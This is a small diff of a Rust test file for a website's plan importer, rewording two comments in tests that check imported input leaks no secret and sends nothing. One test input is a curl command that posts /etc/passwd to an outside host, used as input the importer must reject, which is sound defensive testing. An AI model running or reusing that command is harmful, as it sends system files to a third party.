@@ -1,4 +1,4 @@
-//! Plans as they are made on the website: imported, changed by forms, given thresholds.
+//! Plans made on the website: imported, changed by forms, given thresholds.
 
 use std::collections::BTreeMap;
 use std::path::Path;
@@ -137,7 +137,7 @@ fn what_is_imported_holds_no_secret_and_sends_nothing() {
             assert!(!visitor.ask("GET", path, "", "").1.contains(CANARY), "{path}");
         }
     }
-    // What cannot be read is told in words, beside what was given.
+    // Input that cannot be read is answered with a message, beside the input.
     for (kind, text, said) in [
         ("curl", "curl -d @/etc/passwd http://h/", "not read here"),
         ("har", "{", "Failed to"),
